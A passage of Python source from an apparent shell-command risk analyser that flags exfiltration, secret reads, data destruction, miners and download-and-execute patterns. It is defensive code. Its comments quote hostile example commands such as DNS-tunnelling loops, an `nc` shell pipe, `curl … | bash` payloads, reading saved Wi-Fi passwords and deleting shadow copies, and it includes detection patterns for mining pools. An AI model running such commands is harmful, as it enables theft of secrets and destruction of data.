            self._add("shell.exfiltration", RiskLevel.HIGH, Category.EXFILTRATION, what, node)
        if name == "jupyter" and args[:1] == ["--runtime-dir"]:
            flow.text = "~/.local/share/jupyter/runtime"  # where kernels' connection keys and servers' tokens are
        if name in ("tmux", "screen", "code", "code-insiders", "codium", "xhost", "gp", "ttyd", "gotty", "jupyter"):
            risks, secret = session_command(name, args)
            for risk in risks:
                self._add("shell.session", risk.level, risk.category, risk.what, node)
            if secret:
                flow.secret = True
                self._add("shell.secret-read", RiskLevel.MEDIUM, Category.EXFILTRATION,
                          f"{name} prints secrets (what terminal sessions showed, a workspace's variables, notebook "
                          "servers' tokens)", node)  # fmt: skip
            if name == "screen" and "stuff" in args and args.index("stuff") + 1 < len(args):
                self._nested(args[args.index("stuff") + 1], "shell", node, "typed into a screen session")
        if name in ("mc", "mcli", "rclone", "radosgw-admin", "garage"):
            for risk in object_store_command(name, args, self._source.decode("utf-8", "replace")):
                self._add("shell.object-store", risk.level, risk.category, risk.what, node)
            if args[:1] == ["cat"] or (name != "rclone" and args[:1] == ["cp"] and args[-1:] == ["-"]):
                flow.download = True  # `mc cat partner/tools/x.sh`: a bucket's object, as curl prints a page
        if name in ("box", "gam", "rclone"):
            document = document_command(name, args, repeated=bool(self._loops) or self._repeated or self._mass)
            if document is not None:
                self._add("shell.documents", document.level, document.category, document.what, node)
            if prints_remote_secrets(name, args):
                flow.secret = True  # every remote's tokens, decrypted
        if name == "git" and "config" in args and any("extraheader" in a.lower() for a in args) and not any(
            a in ("--unset", "--unset-all", "--add") for a in args
        ):
            # the token a CI checkout left in the repository's configuration (`AUTHORIZATION: basic …`)
            flow.secret = True
            self._add("shell.secret-read", RiskLevel.MEDIUM, Category.EXFILTRATION,
                      "git config prints the token a CI checkout stored (http.extraheader)", node)  # fmt: skip
        if name == "influx" and args[:1] == ["delete"] and not any(
            a in ("-p", "--predicate") or a.startswith("--predicate=") for a in args
        ) and " ".join(W.option_values(args, "--start")).strip("\"'").startswith(("1970-01-01", "1677-", "1900-", "0")):
            # `influx delete --bucket curing --start 1970-01-01T00:00:00Z --stop $(date …)`: every point, no predicate
            self._add("shell.data-destroy", RiskLevel.HIGH, Category.FILESYSTEM,
                      "influx delete removes every point of a bucket (from the epoch on, with no predicate)",
                      node)  # fmt: skip
        if name.startswith("kafka-") and _KAFKA_HARM.search(" ".join(args)):
            production = production_target(self._source.decode("utf-8", "replace") if node is not None else "")
            self._add("shell.data-destroy", RiskLevel.HIGH if production else RiskLevel.MEDIUM, Category.FILESYSTEM,
                      f"{name} rewinds consumers (every message handled again) or sets retention near zero",
                      node)  # fmt: skip
        # (a release binary's `eval`/`rpc` runs the application's own code: `bin/shop eval '…rollback(Repo, 0)'`)
        runner = name in _MIGRATION_RUNNERS or argv[1:2] in (["eval"], ["rpc"])
        beam_code = (argv[2:3] if argv[1:2] in (["eval"], ["rpc"]) else W.option_values(args, "-eval", "-e")
                     if name in ("erl", "elixir", "iex") else [])  # fmt: skip
        for code in beam_code:
            self._beam_code(name, code, node, flow)
        if runner and schema_reset(" ".join(argv)):
            source = self._source.decode("utf-8", "replace") if node is not None else ""
            # (or the application installed on a server: `cd /opt/paperless-ngx && docker compose exec … flush`)
            production = production_target(source) or (
                _CONTAINER_EXEC.search(source) is not None and _INSTALLED_APP_DIR.search(source) is not None
            ) or ("--force" in argv and ("artisan" in argv[1:2] or any(a.startswith("doctrine:") for a in argv)))
            # (Laravel asks unless --force, Doctrine only prints the SQL without it: forced, it is production)
            self._add("shell.drop-database", RiskLevel.HIGH if production else RiskLevel.MEDIUM, Category.FILESYSTEM,
                      f"{name} drops every table of the database it migrates"
                      + (" (production)" if production else ""), node)  # fmt: skip
        # (`mautic:maintenance:cleanup --days-old=0`: the verb after a console command's namespace)
        if any(a.rsplit(":", 1)[-1] in _CLEANUP_VERBS for a in argv[1:]) and any(
            re.fullmatch(r"0+[smhdw]?", v) for v in W.option_values(argv[1:], *_RETENTION_OPTIONS)
        ):
            # `sentry cleanup --days 0`: a retention of nothing (every stored event, issue or record goes)
            self._add("shell.data-destroy", RiskLevel.HIGH, Category.FILESYSTEM,
                      f"{name} runs its clean-up with a retention of zero (everything stored goes)", node)  # fmt: skip
        if "artisan" in argv[1:2] and "key:generate" in argv and "--force" in argv and not _NO_KEY_YET.search(
            self.enclosing + self._source.decode("utf-8", "replace")
        ):
            # a running install's APP_KEY replaced: everything it encrypted (sessions, tokens, stored secrets) is lost
            self._add("shell.data-destroy", RiskLevel.HIGH, Category.FILESYSTEM,
                      "artisan key:generate --force replaces a live application's encryption key (what it encrypted "
                      "can no longer be read)", node)  # fmt: skip
        if name == "yq" and any(W.base(a).startswith(("docker-compose", "compose.")) for a in args):
            self._pod_spec(" ".join(args), node)  # a compose file edited in place: the containers it will start
        if _HIDDEN_TEMP_PROGRAM.match(argv[0]):
            # `/tmp/.cache/kworker`, `/dev/shm/.x`: a program kept out of sight where anyone may write
            self._add("shell.masquerade", RiskLevel.HIGH, Category.PROCESS,
                      f"runs a hidden program from a temporary directory ({argv[0][:40]})", node)  # fmt: skip
        if name == "huggingface-cli" and args[:1] == ["upload"]:
            for path in args[2:]:
                info = paths.classify(path)
                public = info.kind is paths.PathKind.EXTERNAL and creates_public_hub_repo(
                    self._source.decode("utf-8", "replace")
                )  # (a data folder of the machine's, into a repository this script made public)
                if info.secret or info.kind in (paths.PathKind.HOME_TOP, paths.PathKind.ROOT) or public:
                    self._add("shell.exfiltration", RiskLevel.HIGH, Category.EXFILTRATION,
                              f"huggingface-cli uploads {paths.describe(info)} to a "
                              + ("public " if public else "") + "hub repository", node)  # fmt: skip
                    break
        if name in T.DATA_READERS:
            flow.data = True
        # what a database query or an image's labels print is data someone else stored (`eval "$(snowsql …)"`)
        if name in T.SQL_CLIENTS or name in ("snowsql", "bq") or (
            name in ("docker", "podman") and args[:1] == ["inspect"]
        ):
            flow.data = True
        if name in T.MODEL_CLIS and not (name == "ollama" and args[:1] != ["run"]):
            flow.network = True
            flow.download = True  # a model's answer, from a remote service: running it runs text from there
        if name in ("ollama", "conda") and any(HOLE in a for a in args) and (
            args[:1] == ["rm"] or args[:2] in (["env", "remove"], ["remove", "--all"])
        ):
            self._add("shell.data-destroy", RiskLevel.HIGH, Category.FILESYSTEM,
                      f"{name} removes every model or environment a listing gives", node)  # fmt: skip
        if (name == "nmcli" and "wifi" in args) or (name == "iwlist" and "scan" in args) or (
            name in ("iw", "airport") and ("scan" in args or "-s" in args)
        ):
            flow.secret = True  # the networks around the machine: where it is
            self._add("shell.secret-read", RiskLevel.MEDIUM, Category.EXFILTRATION,
                      f"{name} lists the Wi-Fi networks nearby (locates the machine)", node)  # fmt: skip
        if name == "nmcli" and any(a in ("-s", "--show-secrets") for a in args) and _SAVED_SECRET_FIELD.search(
            " ".join(args)
        ):
            flow.secret = True  # `nmcli -s -g 802-11-wireless-security.psk connection show X`: saved passphrases
            self._add("shell.secret-read", RiskLevel.HIGH, Category.EXFILTRATION,
                      f"{name} prints the saved Wi-Fi or VPN passwords of a connection", node)  # fmt: skip
        if name == "ssh-keygen" and "-s" in args:
            validity = " ".join(W.option_values(args, "-V"))
            principals = ",".join(W.option_values(args, "-n")).split(",")
            if validity.endswith("forever") and "root" in principals:
                self._add("shell.persistence", RiskLevel.HIGH, Category.PERSISTENCE,
                          "ssh-keygen signs a certificate that logs in as root and never expires", node)  # fmt: skip
        if name == "pkcs11-tool" and "--init-token" in args and not any("softhsm" in a.lower() for a in args):
            self._add("shell.data-destroy", RiskLevel.HIGH, Category.FILESYSTEM,
                      "pkcs11-tool re-initialises a hardware token (every key on it is erased)", node)  # fmt: skip
        vault_words = [a for a in args if not a.startswith("-")] if name == "vault" else []
        if vault_words[:2] in (["audit", "disable"], ["secrets", "disable"]) or vault_words[:4] == [
            "operator", "raft", "snapshot", "restore"
        ]:
            what = {
                "audit": "turns an audit device off (secret reads go unrecorded)",
                "secrets": "disables a secrets engine (every secret stored in it is deleted)",
            }.get(vault_words[0], "restores an old snapshot over the live cluster (every change since is lost)")
            self._add("shell.vault", RiskLevel.HIGH, Category.PRIVILEGE if vault_words[0] == "audit"
                      else Category.FILESYSTEM, f"vault {what}", node)  # fmt: skip
        if name == "vault" and args[:2] in (["operator", "seal"], ["operator", "generate-root"]):
            sealing = args[1] == "seal"
            self._add("shell.vault", RiskLevel.HIGH, Category.PROCESS if sealing else Category.PRIVILEGE,
                      "vault operator seal locks every secret away from every application until it is unsealed"
                      if sealing else "vault operator generate-root mints a new root token", node)  # fmt: skip
        listens = [a.split("=", 1)[-1] for a in args if a.startswith("-dev-listen-address")] if name == "vault" else []
        if args[:1] == ["server"] and any(a.startswith(("0.0.0.0", "[::]", ":")) for a in listens):
            self._add("shell.exposure", RiskLevel.HIGH, Category.NETWORK,
                      "vault server -dev listens on every interface (unsealed, with a root token anyone can use)",
                      node)  # fmt: skip
        if name == "sops" and any(a in ("-d", "--decrypt") for a in args) and not any(
            a in ("-i", "--in-place", "--output") or a.startswith("--output=") for a in args
        ):
            flow.secret = True  # the plaintext of every value the file keeps encrypted
        if (name == "sops" and any(a in ("-e", "--encrypt") for a in args)) or (
            name == "ansible-vault" and args[:1] == ["encrypt"]
        ):
            self._encrypted.update(a for a in W.options(args)[1] if a != "encrypt")  # its ciphertext, safe to commit
        plaintext = W.encryption_input(name, args)
        if plaintext:
            self._encrypted_inputs.add(plaintext)  # `gpg -o x.gpg -e x`: a copy of it is kept, encrypted
            # ...and the ciphertext is a file this script made (moved to a share afterwards)
            self._created.update(W.option_values(args, "-o", "--output"))
        if name == "smbclient":
            self._share_script(name, "\n".join(W.option_values(args, "-c", "--command")), node)
        if name == "smbclient" and any(
            re.search(r"(?:^|;)\s*(?:deltree|rmdir|del|rm)\s", c) for c in W.option_values(args, "-c", "--command")
        ):
            self._add("shell.data-destroy", RiskLevel.HIGH, Category.FILESYSTEM,
                      "smbclient deletes folders or files on a shared drive", node)  # fmt: skip
        if name == "rpcclient" and any(
            re.match(r"\s*(?:setuserinfo2?|chgpasswd\d?|samr_?setuserinfo)\b", c, re.I)
            for c in W.option_values(args, "-c", "--command")
        ):
            self._add("shell.identity", RiskLevel.HIGH, Category.PRIVILEGE,
                      "rpcclient resets another account's password", node)  # fmt: skip
        if name in ("ldapmodify", "ldapadd") and self._heredoc_text and re.search(
            r"^add:\s*member\b", self._heredoc_text, re.M
        ) and ADMIN_GROUP.search(self._heredoc_text):
            what = f"{name} adds an account to a directory's administrator group (domain admins, sudo)"
            self._add("shell.identity", RiskLevel.HIGH, Category.PRIVILEGE, what, node)
        if name == "cmd" and args[:1] and args[0].lower() in ("/c", "/k", "/r"):
            # `cmd.exe /c "vssadmin delete shadows & …"`: the rest is a command line
            self._nested(" ".join(args[1:]), "shell", node, "cmd /c", keep=RiskLevel.MEDIUM)
        elif name in ("cmd", "powershell", "pwsh") and not any(
            a.lower().lstrip("-/") in _WINDOWS_SHELL_SCRIPTS for a in args
        ):
            flow.interp = name  # reads its commands from standard input (`cat fifo | cmd.exe | nc …`)
        elif name in T.STDIN_REPLS and (not [a for a in args if not a.startswith("-")] or "-" in args):
            flow.interp = name  # `curl … | jshell -`: the JVM's shells read their code from standard input
        elif console := _application_console(name, args):
            flow.interp = console  # `… | bench --site S console`: the app runs stdin
        if name in _TREE_CHANGERS and node is not None:
            self._unset_prefix(name, args, node)
        if name == "certutil":
            self._certutil(args, flow)
        if name == "jq":
            for script in _INSTALL_SCRIPT_SET.findall(spelled):
                # `jq '.scripts.postinstall = "…"' package.json`: what every installer of the package runs
                self._nested(script.replace('\\"', '"'), "shell", node,
                             "an install script written into a package manifest", keep=RiskLevel.HIGH)  # fmt: skip
        if name in WINDOWS_TOOLS or name in ("cmd", "powershell", "pwsh"):
            for risk in windows_text_risks(f"{name} {' '.join(args)}"):
                self._add("shell.windows", risk.level, risk.category, f"{name}: {risk.what}", node)
        published = _published_messages(name, args)
        for message in published[:2]:
            # `rabbitmqadmin publish payload='{"cmd": "curl … | bash"}'`: a command every consumer runs
            self._shipped_payloads(message, node, f"a message {name} publishes")
        dump_flag = _STORE_DUMP.get(name)
        if (name in DB_DUMPERS and (name != "sqlite3" or ".dump" in args)) or (
            dump_flag is not None and any(a.split("=", 1)[0] == dump_flag for a in args)
        ):
            flow.dump = True
            if name == "redis-cli":
                self._bulk_files.update(W.option_values(args, "--rdb"))  # the snapshot file: every key
            elif name in DB_DUMPERS:
                dumped = W.option_values(args, "-f", "--file", "--result-file")  # `pg_dump -f x`
                self._bulk_files.update(dumped)
                self._created.update(dumped)  # shredding it later (once encrypted) removes what this script made
        collections = (
            [*W.option_values(args, "-c", "--collection"), *(a for a in args if a.startswith("--collection="))]
            if name in ("mongoexport", "mongodump")
            else []
        )
        if collections and _PEOPLE_COLLECTION.search(" ".join(collections)):
            # a collection of people (users, customers, patients): everyone's contact and account data
            flow.secret = True
            self.staged.update(W.option_values(args, "-o", "--out"))
            self.staged.update(a.split("=", 1)[1] for a in args if a.startswith("--out="))
        if name in ("jq", "gojq", "jaq") and any(_INSTALL_SCRIPT_KEY.search(a) for a in args):
            # `jq --arg p "$CMD" '.scripts.postinstall = $p' package.json`: a command every install runs
            for value in [args[i + 2] for i, a in enumerate(args[:-2]) if a in ("--arg", "--argjson")]:
                self._nested(value, "shell", node, "a package script written by jq", keep=RiskLevel.HIGH)
        if name in ("jq", "gojq", "jaq") and any(_JQ_ENV.search(a) for a in args if " " in a or a == "env"):
            flow.env = True  # `jq -n env`, `$ENV`: the whole environment
        if name in T.ARG_SENDERS and any(data_label(a) for a in args) and _ENCODER.search(self._source):
            # `xxd -p FILE | while read c; do dig "$c.t.example.com"; done`: a file leaves, label by label
            self._add("shell.exfiltration", RiskLevel.HIGH, Category.EXFILTRATION,
                      f"{name} spells encoded data into the names it looks up (DNS tunnelling)", node)  # fmt: skip
        if name in T.ARG_SENDERS and any(HOLE in a and beacon(a) for a in args):
            self._add("shell.exfiltration", RiskLevel.HIGH, Category.EXFILTRATION,
                      f"{name} spells run-time data into a name under an interaction server (DNS exfiltration)",
                      node)  # fmt: skip
        if name in T.ARG_SENDERS and (flow.secret or flow.env or flow.credential):
            # `dig "$chunk.example.net"`, `ping -p "$hex"`: secret data leaves in names and packets;
            # no lookup or ping needs a token, so a credential variable in one is on its way out
            self._add(
                "shell.exfiltration",
                RiskLevel.CRITICAL,
                Category.EXFILTRATION,
                f"{name} sends secret data over the network in its arguments",
                node,
            )
        if name in ("curl", "wget", "http", "https") and node is not None:
            self._credential_body(name, node)
            self._people_body(name, args, node)
            self._password_guessing(name, node)
            self._web_abuse(name, args, node)
        if (
            ("admin" in spelled or "createsuperuser" in spelled)
            and any(a in ("admin:user:create", "createsuperuser", "--role=administrator", "--role=admin") for a in args)
            and not any(a in ("list", "get", "ls", "show") for a in args)  # `wp user list --role=administrator`
        ):
            outsider = personal_mailbox(" ".join(args))
            # (with a password spelled in the script, on production: a known login to the live site's admin)
            source = self._source.decode("utf-8", "replace")
            known = "SUPERUSER_PASSWORD=" in source and production_target(source)
            level = RiskLevel.HIGH if outsider or known else RiskLevel.MEDIUM
            self._add("shell.app-admin", level, Category.PERSISTENCE,
                      f"{name} creates an application administrator"
                      + (" for a personal mailbox address" if outsider else ""), node)  # fmt: skip
        if name == "firebase" and (
            (args[:1] == ["firestore:delete"] and any(a in ("--all-collections", "-r", "--recursive") for a in args))
            or (args[:1] == ["database:remove"] and args[1:2] == ["/"])
        ):
            self._add("shell.data-destroy", RiskLevel.HIGH, Category.FILESYSTEM,
                      f"firebase {args[0]} deletes a whole database (every collection, or the root)", node)  # fmt: skip
        if name == "firebase" and args[:1] == ["auth:export"] and len(args) > 1:
            self.staged.add(args[1])  # every user account, password hashes included
            self._add("shell.secret-read", RiskLevel.MEDIUM, Category.EXFILTRATION,
                      "firebase auth:export writes every user account (with password hashes) to a file",
                      node)  # fmt: skip
        if ("fastlane" in (name, *args[:2]) and "match" in args and "nuke" in args) or (
            name == "cfgutil" and "erase" in args
        ):
            self._add("shell.data-destroy", RiskLevel.HIGH, Category.FILESYSTEM,
                      f"{name} " + ("erases the attached devices" if name == "cfgutil"
                                    else "revokes every certificate and profile of the team"),
                      node)  # fmt: skip
        if name in ("insert_dylib", "optool", "yololib") and any(
            posixpath.basename(a) in self.downloaded for a in args
        ):
            self._add("shell.download-exec", RiskLevel.HIGH, Category.DYNAMIC_CODE,
                      f"{name} injects a downloaded library into an app binary", node)  # fmt: skip
        if "--name=siteadmins" in args and any(a.startswith("--set=") for a in args):
            self._add("shell.privilege", RiskLevel.HIGH, Category.PRIVILEGE,
                      f"{name} changes who the site's administrators are (Moodle's siteadmins)", node)  # fmt: skip
        if any("0.0.0.0" in a or "[::]" in a for a in args) and _DEBUG_PORT_EVERYWHERE.search(" ".join(args)):
            # `node --inspect=0.0.0.0:9229`, `python -m debugpy --listen 0.0.0.0:5678`: a debugger runs what it is sent
            self._add("shell.remote-code", RiskLevel.HIGH, Category.DYNAMIC_CODE,
                      f"{name} opens a debugger port on every interface (whoever connects runs code)",
                      node)  # fmt: skip
        if name in _DATA_STORE_DAEMONS and _store_open_to_all(args):
            self._add("shell.exposure", RiskLevel.HIGH, Category.NETWORK,
                      f"{name} runs with its logins switched off" + (" on every interface" if _binds_everywhere(args)
                                                                    else " (any local user is its superuser)"),
                      node)  # fmt: skip
        guards = protections_turned_off(args)
        # a throwaway container for tests, published on loopback only: nobody else reaches it
        published = W.option_values(args, "-p", "--publish") if guards else []
        local = name in ("docker", "podman", "nerdctl") and all(
            p.startswith(("127.0.0.1:", "localhost:")) for p in published
        )
        if guards and not local:
            self._add("shell.weakened-settings", RiskLevel.HIGH, Category.PRIVILEGE,
                      f"{name} turns off {guards[0].replace(HOLE, '…')} (a safety, fraud, signature or login guard)",
                      node)  # fmt: skip
        miner = "-u" in spelled or "--wallet" in spelled  # a wallet given as the user
        pools = W.option_values(args, "-o", "--url", "--pool") if miner else []
        wallets = W.option_values(args, "-u", "--user", "--wallet") if miner else []
        if pools and wallets and (
            any(re.fullmatch(r"[0-9A-Za-z]{60,}", w.split(".")[0]) for w in wallets)  # a Monero-style address
            or any(re.search(r"(?:^|\.)pool\.|pool[\w-]*\.\w+:\d+|:(?:3333|4444|5555|7777|14444)$", p) for p in pools)
        ):
            self._add("shell.miner", RiskLevel.HIGH, Category.RESOURCE,
                      f"{name} connects to a mining pool with a wallet address (a miner, whatever its name)",
                      node)  # fmt: skip
        if "stratum" in spelled and any(("stratum+tcp://" in a or "stratum+ssl://" in a or "stratum2+tcp://" in a)
                                        for a in args):  # fmt: skip
            self._add(
                "shell.miner", RiskLevel.HIGH, Category.RESOURCE, f"{name} connects to a mining pool (a miner)", node
            )
        if (
            argv[0] in self._functions
            and (any(a.strip(HOLE) for a in args) or self._background)  # `f &`: its body, left running
            and argv[0] not in self._calling
            and self._call_budget > 0
        ):
            self._call_function(argv[0], args, flow)
        loop = self._loops[-1] if self._loops else None
        if loop is not None and name in ("curl", "http", "https") and _PUSH_OR_MESSAGE_API.search(" ".join(args)) and (
            credential_lure(" ".join(args))
        ):
            # a notification or text urging each recipient to log in or give card details behind a link
            self._add("shell.phishing", RiskLevel.HIGH, Category.NETWORK,
                      f"{name} sends credential-phishing notifications or messages to a list of people",
                      node)  # fmt: skip
        if loop is not None and loop.huge and name in T.PROBES:
            self._add(
                "shell.network-scan",
                RiskLevel.HIGH,
                Category.NETWORK,
                f"{name} probes hundreds of hosts or ports in a loop (network scan)",
                node,
            )
        # (`python3 Tools/scripts/uploader.py --port … fw.apj`: a flashing script run by the interpreter)
        flasher = name in T.FLASH_TOOLS or (name in T.PYTHONS and posixpath.basename(args[0] if args else "") in
                                            T.FLASH_TOOLS)  # fmt: skip
        if flasher and any(
            a.split(":")[-1] in self.downloaded or posixpath.basename(a.split(":")[-1]) in self.downloaded
            for a in args
        ):
            self._add("shell.download-exec", RiskLevel.HIGH, Category.DYNAMIC_CODE,
                      f"{name} flashes firmware downloaded from the network into a device (unverified code runs on "
                      "the hardware)", node)  # fmt: skip
        if name.startswith("gst-launch") and _CAPTURE_ELEMENT.search(" ".join(args)):
            hosts = [m[1] or m[2] for m in _STREAM_SINK_HOST.finditer(" ".join(args))]
            if any(outside_address(h) or (not h[:1].isdigit() and not _INTERNAL_NAME.search(h)
                                          and h not in ("localhost",)) for h in hosts):  # fmt: skip
                self._add("shell.exfiltration", RiskLevel.HIGH, Category.EXFILTRATION,
                          f"{name} streams a camera, microphone or screen to another host ({hosts[0]})",
                          node)  # fmt: skip
        if name == "hackrf_transfer" and transmits_on_protected_band(name, args):
            self._add("shell.radio", RiskLevel.HIGH, Category.NETWORK,
                      f"{name} transmits on an aviation or satellite-navigation frequency (spoofs or jams what "
                      "aircraft and receivers rely on)", node)  # fmt: skip
        # (`logger -n HOST` sends each message to a remote syslog server)
        remote_log = name == "logger" and any(a in ("-n", "--server") or a.startswith("--server=") for a in args)
        if loop is not None and loop.endless and not loop.paced and (name in T.NETWORK or remote_log):
            self._add(
                "shell.flood",
                RiskLevel.HIGH,
                Category.NETWORK,
                f"{name} runs in an endless loop without pause (floods the target)",
                node,
            )
        downloaded = self.downloaded
        fetched = [a for a in args if a in downloaded or posixpath.basename(a) in downloaded] if downloaded else []
        runs_fetched = name in T.RUNTIMES or (name in T.SCRIPT_RUNNERS and any(a in ("run", "exec") for a in args))
        if fetched and not runs_fetched and _installs_package_file(name, args):
            # `wget …/tool.deb && sudo dpkg -i tool.deb`: its maintainer scripts run as root at once
            runs_fetched = True
        if runs_fetched and fetched:
            # a named release over HTTPS (`…/releases/download/1.17.1/bundletool-all-1.17.1.jar`) is a tool
            # installed the usual way; anything else fetched and run is someone else's code
            pinned = all(a in self.pinned or posixpath.basename(a) in self.pinned for a in fetched)
            self._add(
                "shell.download-exec",
                RiskLevel.MEDIUM if pinned else RiskLevel.CRITICAL,
                Category.DYNAMIC_CODE,
                f"{name} runs a "
                + ("named release (or a local service's file)" if pinned else "file downloaded from the network"),
                node,
            )
        dumps = (name in ("jcmd", "jmap", "gcore") and any("dump" in a.lower() for a in args)) or name == "gcore"
        if (name in ("touch", "mkdir", "mktemp") or dumps) and loop is not None and loop.endless and not loop.paced:
            what = f"{name} creates files in an endless loop (the file system runs out of inodes)"
            self._add("shell.disk-fill", RiskLevel.HIGH, Category.RESOURCE, what, node)
        # (the encoders and dumpers stream their input through: endless in, endless out)
        limited = name in ("xxd", "od", "hexdump") and any(
            a.startswith(("-l", "-N", "--read-bytes", "-n")) for a in args
        )
        # (`yes | tr '\n' x | …`: a filter given nothing but the endless stream passes it on)
        fed_endless = self._stdin_endless and (name == "tr" or (name in _STREAMING_READERS and not W.options(args)[1]))
        if name == "yes" or (
            name in _STREAMING_READERS and (any(a in T.ENDLESS_DEVICES for a in args) or fed_endless) and not limited
        ):
            flow.endless = True
        if name in T.BUFFERING and any(a in T.ENDLESS_DEVICES for a in args):
            self._add(
                "shell.memory-hog",
                RiskLevel.HIGH,
                Category.RESOURCE,
                f"{name} reads an endless device into memory",
                node,
            )
        elif name in ("sort", "tac", "shuf") and not [a for a in args if not a.startswith("-")]:
            flow.buffers = True  # keeps all of stdin in memory
        if (
            argv[0] in self.downloaded
            or (posixpath.basename(argv[0]) in self.downloaded and "/" in argv[0])
            or ("/" in argv[0] and self._in_clone(argv[0]))
        ):
            self._runs_download(name, argv[0], node)
        minted = any(a in ("token-create", "create-token") for a in args[:3]) or args[1:3] == ["token", "create"] or (
            name in ("fly", "flyctl") and args[:2] == ["tokens", "create"]
        )
        if minted and name != "kubeadm":
            flow.secret = True  # `linode-cli profile token-create`: the new token is what it prints (not a join token)
        remote_option = _CLOUD_SSH_COMMAND.get((name, *args[:2])) or _CLOUD_SSH_COMMAND.get((name, *args[:1]))
        guest = (name, *args[:1]) in _GUEST_EXEC and "--" in args
        dyno = name == "heroku" and args[:1] in (["run"], ["run:detached"]) and len(args) > 1
        # `dokku run:detached APP CMD…`: CMD runs in a one-off container of the app, with its config
        container_run = _after_app(args[1:]) if name == "dokku" and args[:1] in (["run"], ["run:detached"]) else []
        if remote_option is not None or guest or dyno or container_run:
            # `gcloud compute ssh vm --command CMD`, `vagrant ssh -c CMD`, `multipass exec vm -- CMD…`, `heroku run
            # CMD`: CMD runs on that machine, and what it prints is what this command prints
            commands = (W.option_values(args, *remote_option) if remote_option is not None
                        else [_heroku_run_command(args[1:])] if dyno
                        else [shlex.join(container_run)] if container_run
                        else [shlex.join(args[args.index("--") + 1 :])])  # fmt: skip
        elif name == "gcloud" and args[:1] == ["run"] and {"sh", "bash"} & set(W.option_values(args, "--command")):
            # `gcloud run jobs update job --command=sh --args="-c,CMD"`: CMD is what every execution runs
            commands = [a.split(",", 1)[1] for a in W.option_values(args, "--args") if a.startswith("-c,")]
        else:
            commands = []
        for command in commands:
            self.nested_output = None
            via = "renewal hook" if name == "step" else "remote command"
            self._nested(command, "shell", node, f"{name} {args[0]} {via}")
            if self.nested_output is not None:
                flow.secret |= self.nested_output.secret
                flow.dump |= self.nested_output.dump
        if name in _JOB_SUBMITTERS and (args[:1] == ["run"] or name == "spark-submit" or args[:1] == ["jar"]):
            # `flink run -d /tmp/a.jar`, `spark-submit app.py`, `hadoop jar x.jar`: the job's code runs on the cluster
            job = next((a for a in args if a.endswith((".jar", ".py")) and not a.startswith("-")), None)
            if job is not None and (job in self.downloaded or posixpath.basename(job) in self.downloaded):
                self._runs_download(name if name == "spark-submit" else f"{name} {args[0]}", job, node)
        if name.startswith("mkfs") or name.startswith("mkfs."):
            self._formatter = name  # (`mkfs.vfat -n` names the volume; `mkfs.ext4 -n` is a dry run)
            name = "mkfs"
        sources = fetched
        if sources:
            # built from a download: as foreign as it (as trusted, when that was a named release)
            pinned = all(a in self.pinned or posixpath.basename(a) in self.pinned for a in sources)
            for derived in W.option_values(args, *T.DERIVED_OUTPUT_OPTIONS):
                self.downloaded.update((derived, posixpath.basename(derived)))
                if pinned:
                    self.pinned.update((derived, posixpath.basename(derived)))
        if name == "mkdir":
            self.made_dirs.update(a.rstrip("/") for a in args if not a.startswith("-"))
        if name == "argocd" and W.options(args, _ARGOCD_VALUED)[1][:2] == ["app", "delete"] and (
            bool(self._loops) or self._mass or self._repeated or bool(self._stdin_listing)
        ):
            self._add("shell.cloud-destroy", RiskLevel.HIGH, Category.FILESYSTEM,
                      "argocd app delete removes every application a listing gives (and what they deployed)",
                      node)  # fmt: skip
        if name == "ssh-keygen" and "-s" in args:
            principals = ",".join(W.option_values(args, "-n")).split(",")
            validity = " ".join(W.option_values(args, "-V"))
            days = [int(n) for n in re.findall(r"\+(\d+)d", validity)]
            days += [7 * int(n) for n in re.findall(r"\+(\d+)w", validity)]
            if "root" in principals or any(d > 366 for d in days):
                self._add("shell.privilege", RiskLevel.HIGH, Category.PRIVILEGE,
                          "ssh-keygen signs a certificate with the CA "
                          + ("for root" if "root" in principals else "that stays valid for years")
                          + " (it logs in wherever the CA is trusted)", node)  # fmt: skip
        if name == "p4" and "obliterate" in args and "-y" in args:
            self._add("shell.history-rewrite", RiskLevel.HIGH, Category.FILESYSTEM,
                      "p4 obliterate -y erases files and their whole history from the Perforce server",
                      node)  # fmt: skip
        if name == "helm" and any(p in self.downloaded for p in W.option_values(args, "--post-renderer")):
            self._runs_download("helm --post-renderer", W.option_values(args, "--post-renderer")[0], node)
        if name == "duckdb" and any(SHARE_FILE_QUERY.search(a) for a in args):
            flow.dump = True  # `duckdb -c "SELECT * FROM read_parquet('/mnt/smb/…')"`: a data share's tables printed
        if name == "dotnet" and args[:3] == ["nuget", "add", "source"]:
            # a NuGet feed every later restore takes packages from (their build targets run in every build)
            self._unverified_source("dotnet nuget", [a for a in args[3:] if "://" in a][:1], node)
        if name in T.PACKAGE_TOOLS or name in T.REGISTRY_CLIENTS:
            self._package_manager(name, args, node)
        if name in ("rsync", "scp"):
            operands = W.options(args, _RSYNC_VALUED if name == "rsync" else _SCP_VALUED)[1]
            host = operands[-1].split(":", 1)[0].rsplit("@", 1)[-1] if operands and ":" in operands[-1] else ""
            if operands and operands[-1].startswith("rsync://"):
                host = operands[-1][len("rsync://") :].split("/", 1)[0].rsplit("@", 1)[-1].split(":", 1)[0]
            moves = "--remove-source-files" in args
            # a data share copied to a bare address of another network (moved: the only copy leaves)
            kinds = (paths.PathKind.EXTERNAL, paths.PathKind.SYSTEM) if moves else (paths.PathKind.EXTERNAL,)
            # (an application's own tree, `/var/www/forum/private_uploads`, holds what its users uploaded)
            data = [o for o in operands[:-1]
                    if paths.classify(o).kind in kinds or paths.people_records(o) or paths.application_tree(o)]
            if data and outside_address(host):
                what = (f"rsync moves {data[0]} to an outside address ({host}) and deletes the originals" if moves
                        else f"{name} copies a server's data ({data[0]}) to a bare outside address ({host})")
                self._add("shell.exfiltration", RiskLevel.HIGH, Category.EXFILTRATION, what, node)
        if W.base(name).startswith("python") and args[:2] == ["-m", "jupyter"]:
            self._rule_notebook("jupyter", args[2:], node, flow)  # `python3 -m jupyter lab --ip=0.0.0.0 …`
        if name == "papermill" and any(a.startswith(("http://", "https://")) for a in W.options(args)[1][:1]):
            self._add("shell.download-exec", RiskLevel.HIGH, Category.DYNAMIC_CODE,
                      "papermill runs a notebook fetched from a web address", node)  # fmt: skip
        if name == "certbot" and ("revoke" in args or "--force-renewal" in args) and (
            bool(self._loops) or self._mass or self._repeated
        ):
            what = ("certbot revokes every certificate a listing gives (sites fail until reissued)" if "revoke" in args
                    else "certbot forces certificate issuance again and again (the CA's rate limits are exhausted)")
            self._add("shell.certificates", RiskLevel.HIGH, Category.RESOURCE, what, node)
        if name == "cfssl" and args[:1] == ["serve"] and any(a.startswith("-ca-key") for a in args) and any(
